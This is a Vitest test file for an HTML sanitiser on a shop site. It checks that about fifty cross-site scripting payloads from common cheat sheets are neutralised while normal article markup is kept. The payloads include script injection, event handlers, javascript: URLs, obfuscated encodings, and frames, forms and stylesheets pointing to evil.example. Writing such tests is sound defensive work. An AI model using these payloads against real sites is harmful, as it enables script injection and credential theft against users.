import { describe, expect, it } from 'vitest';
import { cleanHtml, isEmptyHtml } from './clean-html.ts';

/** From the usual cheat sheets: scripts, handlers, frames, foreign addresses and ways to hide them. */
const attacks = [
  '<script>alert(1)</script>',
  '<SCRIPT SRC=//evil.example/x.js></SCRIPT>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<img src=x onerror=alert(1)>',
  '<img src="javascript:alert(1)">',
  '<img src="https://evil.example/pixel.gif">',
  '<img src="//evil.example/pixel.gif">',
  '<img src="/media/../api/auth/logout">',
  '<img src="/media/a.svg">',
  '<img """><script>alert(1)</script>">',
  '<svg onload=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  '<svg><animate onbegin=alert(1) attributeName=x dur=1s>',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>',
  '<iframe src="https://evil.example"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<object data="data:text/html,<script>alert(1)</script>"></object>',
  '<embed src="javascript:alert(1)">',
  '<base href="https://evil.example/">',
  '<link rel=stylesheet href="https://evil.example/x.css">',
  '<meta http-equiv="refresh" content="0;url=https://evil.example">',
  '<style>body{background:url(https://evil.example)}</style>',
  '<p style="background:url(javascript:alert(1))">x</p>',
  '<p onclick="alert(1)">x</p>',
  '<p onmouseover=alert(1) class=x id=y>x</p>',
  '<a href="javascript:alert(1)">x</a>',
  '<a href=" javascript:alert(1)">x</a>',
  '<a href="java\nscript:alert(1)">x</a>',
  '<a href="java&#x09;script:alert(1)">x</a>',
  '<a href="&#106;avascript:alert(1)">x</a>',
  '<a href="JaVaScRiPt:alert(1)">x</a>',
  '<a href="vbscript:msgbox(1)">x</a>',
  '<a href="data:text/html,<script>alert(1)</script>">x</a>',
  '<a href="//evil.example">x</a>',
  '<a href="/\\evil.example">x</a>',
  '<a href="\\\\evil.example">x</a>',
  '<a href="#" onfocus=alert(1) autofocus>x</a>',
  '<form action="https://evil.example"><input name=password></form>',
  '<button formaction="javascript:alert(1)">x</button>',
  '<details open ontoggle=alert(1)>x</details>',
  '<video><source onerror=alert(1)></video>',
  '<audio src=x onerror=alert(1)>',
  '<marquee onstart=alert(1)>x</marquee>',
  '<template><script>alert(1)</script></template>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
  '<textarea><script>alert(1)</script></textarea>',
  '<!--[if gte IE 4]><script>alert(1)</script><![endif]-->',
  '<table background="javascript:alert(1)"><td background="javascript:alert(1)">x</td></table>',
  '<x onclick=alert(1)>x</x>',
  '<p>&lt;script&gt;alert(1)&lt;/script&gt;</p>',
];

const goodTag =
  /^<\/?(h2|h3|p|br|em|strong|sup|blockquote|ol|ul|li|table|thead|tbody|tr|th|td)( (scope|colspan|rowspan)="\w+")*( \/)?>$|^<\/a>$|^<a( href="(https?:\/\/|mailto:|\/(?![/\\])|#)[^"]*")?( rel="noopener nofollow")?>$|^<img src="\/media\/[\w/-]+\.\w+" alt="[^"]*" loading="lazy" \/>$/;

describe('rich text', () => {
  it.each(attacks)('loses what could run, frame or fetch: %s', (attack) => {
    const clean = cleanHtml(attack);
    for (const [tag] of clean.matchAll(/<[^>]*>/g)) expect(tag).toMatch(goodTag);
    // What is left beside the tags is text, and cleaning again changes nothing.
    expect(cleanHtml(clean)).toBe(clean);
  });

  it('keeps what an article is made of', () => {
    const article =
      '<h2>Grikiai</h2><p>Su <strong>sviestu</strong> ir <em>druska</em>, 6.228<sup>10</sup>.<br /></p>' +
      '<ol><li>Virti</li></ol><ul><li>Valgyti</li></ul><blockquote><p>Skanu</p></blockquote>' +
      '<table><thead><tr><th scope="col">Kas</th></tr></thead><tbody><tr><td colspan="2">Kiek</td></tr></tbody></table>' +
      '<p><a href="/mitybos-planai">planai</a> <a href="mailto:labas@shop.example">laiškas</a> <a href="#kaina">kaina</a></p>';
    expect(cleanHtml(article)).toBe(article);
  });

  it('keeps pictures of the shop itself and links to other sites, which it does not vouch for', () => {
    expect(cleanHtml('<img src="/media/demo/hero/800.webp" alt="Dubuo" onload="x()">')).toBe(
      '<img src="/media/demo/hero/800.webp" alt="Dubuo" loading="lazy" />',
    );
    expect(cleanHtml('<a href="https://vvtat.lt" target="_blank">vvtat.lt</a>')).toBe(
      '<a href="https://vvtat.lt" rel="noopener nofollow">vvtat.lt</a>',
    );
  });

  it('is empty when nothing is left to read', () => {
    expect(isEmptyHtml(cleanHtml('<p> </p><script>alert(1)</script>'))).toBe(true);
    expect(isEmptyHtml(cleanHtml('<p>Labas</p>'))).toBe(false);
  });
});
